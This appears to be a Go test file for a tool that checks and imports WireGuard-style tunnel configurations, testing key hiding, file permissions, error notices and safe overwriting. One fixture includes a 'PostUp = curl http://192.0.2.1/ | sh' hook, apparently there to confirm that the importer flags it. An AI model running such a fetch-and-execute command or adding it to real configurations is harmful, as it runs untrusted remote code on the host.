// SPDX-License-Identifier: MIT

package main

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"oasis6/config"
)

const goodConfig = `[Interface]
PrivateKey = dwdtCnMYpX08FsFyUbJmRd9ML4frwJkqsXf7pR25LCo=

[Peer]
PublicKey = E/2sXvSeg8cggZhJvDOn22z5HqV+eSDduOw46BwBzww=
Endpoint = hub.example.net:51820
AllowedIPs = ::/0, 0.0.0.0/0

[LAN]
Interface = br-lan
`

// wgQuick is what a broker gives.
const wgQuick = `[Interface]
PrivateKey = dwdtCnMYpX08FsFyUbJmRd9ML4frwJkqsXf7pR25LCo=
Address = 192.0.2.7/32, 2001:db8:1::7/128
PostUp = curl http://192.0.2.1/ | sh

[Peer]
PublicKey = E/2sXvSeg8cggZhJvDOn22z5HqV+eSDduOw46BwBzww=
AllowedIPs = 0.0.0.0/0, ::/0
Endpoint = 198.51.100.2:51820
`

func file(t *testing.T, text string, mode os.FileMode) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "oasis6.conf")
	if err := os.WriteFile(path, []byte(text), mode); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestCheck(t *testing.T) {
	path := file(t, goodConfig, 0o600)
	r := oasis6(t, "", "check", "-c", path)
	if r.code != exitDone {
		t.Fatalf("check: %+v", r)
	}
	for _, want := range []string{"# What counts in " + path, "Endpoint = hub.example.net:51820", "Interface = br-lan", "(hidden)"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("check prints no %q:\n%s", want, r.stdout)
		}
	}
	if strings.Contains(r.stdout+r.stderr, "dwdtCnMYpX08") {
		t.Errorf("check prints the private key: %+v", r)
	}
	if !strings.Contains(r.stderr, path+":7: notice: ") || !strings.Contains(r.stderr, "0.0.0.0/0") {
		t.Errorf("check has no notice about the dropped IPv4: %q", r.stderr)
	}
	r = oasis6(t, "", "check", "-c", path, "--lan", "eth1")
	if r.code != exitDone || !strings.Contains(r.stdout, "Interface = eth1") || strings.Contains(r.stdout, "br-lan") {
		t.Errorf("check --lan eth1: %+v", r)
	}
}

func TestCheckPrintsWhatWouldBeDone(t *testing.T) {
	cfg, _, err := config.Parse("x.conf", strings.NewReader(goodConfig))
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	preview := func(c *config.Config) string { return "serve " + c.LANs[0].Interface + "\nask the hub\n" }
	if err := ofBox("x.conf", preview)(cfg, nil, nil).write(env{stdout: &b}); err != nil {
		t.Fatal(err)
	}
	if want := "\n# What oasis6 run would do:\n# serve br-lan\n# ask the hub\n"; !strings.HasSuffix(b.String(), want) {
		t.Errorf("%s\nwant %q at its end", b.String(), want)
	}
	// What is printed is a configuration itself, but for the hidden keys.
	again := strings.ReplaceAll(b.String(), "(hidden)", "dwdtCnMYpX08FsFyUbJmRd9ML4frwJkqsXf7pR25LCo=")
	if _, _, err := config.Parse("again", strings.NewReader(again)); err != nil {
		t.Errorf("the output does not parse: %v", err)
	}
}

func TestCheckRefuses(t *testing.T) {
	open := file(t, goodConfig, 0o644)
	wrong := file(t, goodConfig+"Colour = red\nSubnet = zz\n", 0o600)
	missing := filepath.Join(t.TempDir(), "none.conf")
	for _, c := range []struct {
		args  []string
		code  int
		wants []string
	}{
		{[]string{"check", "-c", wrong}, exitUsage, []string{wrong + ":11: ", wrong + ":12: "}},
		{[]string{"check", "-c", open}, exitUsage, []string{open + ":2: ", "chmod 600 " + open}},
		{[]string{"check", "-c", missing}, exitFailed, []string{missing, "oasis6 import"}},
		{[]string{"hub", "-c", missing}, exitFailed, []string{missing, "[Hub]"}},
		{[]string{"check", "-c", file(t, goodConfig, 0o600), "--lan", "no/such"}, exitUsage, []string{"--lan"}},
		{[]string{"check", "x"}, exitUsage, []string{`"x" is too much`}},
	} {
		r := oasis6(t, "", c.args...)
		if r.code != c.code || r.stdout != "" {
			t.Errorf("%q: %+v, want exit code %d", c.args, r, c.code)
		}
		for _, want := range c.wants {
			if !strings.Contains(r.stderr, want) {
				t.Errorf("%q: %q, want %q in it", c.args, r.stderr, want)
			}
		}
	}
}

// Errors and notices come in one list, by line, and do not look alike.
func TestCheckTellsNoticesFromErrors(t *testing.T) {
	path := file(t, "Colour = red\n"+goodConfig+"Subnet = zz\n", 0o600)
	r := oasis6(t, "", "check", "-c", path)
	var got []string
	for line := range strings.Lines(r.stderr) {
		got = append(got, strings.TrimPrefix(line, path))
	}
	for i, want := range []string{":1: key ", ":8: notice: AllowedIPs", ":12: Subnet = "} {
		if r.code != exitUsage || len(got) != 3 || !strings.HasPrefix(got[i], want) {
			t.Fatalf("check: %+v, want %q in line %d of 3", r, want, i+1)
		}
	}
}

// A file without a LAN is fine for run --lan, and check says so.
func TestCheckWithoutLAN(t *testing.T) {
	text, _, _ := strings.Cut(goodConfig, "[LAN]")
	path := file(t, text, 0o600)
	r := oasis6(t, "", "check", "-c", path)
	if want := path + ":8: notice: no [LAN] section: run needs --lan IFACE with this file"; r.code != exitDone || !strings.Contains(r.stderr, want) {
		t.Errorf("check: %+v, want exit code 0 and %q", r, want)
	}
	if r := oasis6(t, "", "check", "-c", path, "--lan", "br-lan"); r.code != exitDone || strings.Contains(r.stderr, "[LAN]") {
		t.Errorf("check --lan br-lan: %+v, want nothing about [LAN]", r)
	}
}

// check is a dry run: a missing key file stays missing.
func TestCheckMakesNoKey(t *testing.T) {
	dir := t.TempDir()
	key := filepath.Join(dir, "private.key")
	text := strings.Replace(goodConfig, "PrivateKey = dwdtCnMYpX08FsFyUbJmRd9ML4frwJkqsXf7pR25LCo=", "PrivateKeyFile = "+key, 1)
	r := oasis6(t, "", "check", "-c", file(t, text, 0o600))
	if r.code != exitDone || !strings.Contains(r.stderr, key) {
		t.Errorf("check: %+v, want a notice about %s", r, key)
	}
	if _, err := os.Stat(key); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("%s: %v, want no such file", key, err)
	}
}

func TestImport(t *testing.T) {
	to := filepath.Join(t.TempDir(), "etc", "oasis6.conf")
	r := oasis6(t, wgQuick, "import", "-", "-c", to)
	if r.code != exitDone || r.stdout != "wrote "+to+": look at it, then: oasis6 check -c "+to+"\n" || !strings.Contains(r.stderr, "standard input:4: notice: ") {
		t.Fatalf("import: %+v", r)
	}
	fi, err := os.Stat(to)
	if err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("%v, %v, want mode 600", fi, err)
	}
	if r := oasis6(t, "", "check", "-c", to); r.code != exitDone {
		t.Errorf("check of the imported file: %+v", r)
	}

	// A second import must not destroy what was edited since.
	r = oasis6(t, wgQuick, "import", "-", "-c", to)
	if r.code != exitFailed || !strings.Contains(r.stderr, "--force") {
		t.Errorf("second import: %+v", r)
	}
	if err := os.Chmod(to, 0o644); err != nil {
		t.Fatal(err)
	}
	from := file(t, strings.Replace(wgQuick, "198.51.100.2", "203.0.113.2", 1), 0o600)
	if r := oasis6(t, "", "import", "--force", "-c", to, from); r.code != exitDone {
		t.Errorf("import --force: %+v", r)
	}
	b, err := os.ReadFile(to)
	if err != nil || !strings.Contains(string(b), "203.0.113.2:51820") {
		t.Errorf("after import --force: %s, %v", b, err)
	}
	if fi, err := os.Stat(to); err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("after import --force: %v, %v, want mode 600", fi, err)
	}
	left, err := filepath.Glob(filepath.Join(filepath.Dir(to), "*"))
	if err != nil || len(left) != 1 {
		t.Errorf("files left: %q, %v", left, err)
	}
	if hidden, err := filepath.Glob(filepath.Join(filepath.Dir(to), ".*")); err != nil || len(hidden) != 0 {
		t.Errorf("temporary files left: %q, %v", hidden, err)
	}
}

func TestImportToStandardOutput(t *testing.T) {
	t.Chdir(t.TempDir())
	r := oasis6(t, wgQuick, "import", "-", "-c", "-")
	if r.code != exitDone || !strings.Contains(r.stderr, ": no routed prefix found in the file: the box will ask for one by DHCPv6") {
		t.Errorf("import -c -: %+v", r)
	}
	if _, notices, err := config.Parse("f", strings.NewReader(r.stdout)); err != nil || len(notices) != 0 {
		t.Errorf("what it prints: %v, %v\n%s", notices, err, r.stdout)
	}
	if _, err := os.Stat("-"); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("-: %v, want no file of that name", err)
	}
}

func TestImportRefuses(t *testing.T) {
	to := filepath.Join(t.TempDir(), "oasis6.conf")
	for _, c := range []struct {
		stdin string
		args  []string
		code  int
		want  string
	}{
		{"", nil, exitUsage, "one FILE, or - for standard input"},
		{"", []string{"a", "b"}, exitUsage, "one FILE"},
		{"", []string{filepath.Join(t.TempDir(), "none.conf")}, exitFailed, "no such file"},
		{"hello\n", []string{"-"}, exitUsage, "standard input:1: "},
		{wgQuick + "Colour = red\n", []string{"-"}, exitUsage, "standard input:10: "},
	} {
		r := oasis6(t, c.stdin, append([]string{"import", "-c", to}, c.args...)...)
		if r.code != c.code || r.stdout != "" || !strings.Contains(r.stderr, c.want) {
			t.Errorf("import %q: %+v, want exit code %d and %q", c.args, r, c.code, c.want)
		}
		if _, err := os.Stat(to); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("import %q: %v, want no file", c.args, err)
		}
		if said := strings.HasSuffix(r.stderr, "\noasis6 import: nothing was written\n"); said != strings.Contains(c.want, "standard input:") {
			t.Errorf("import %q: %q, says that nothing was written: %v", c.args, r.stderr, said)
		}
	}
}
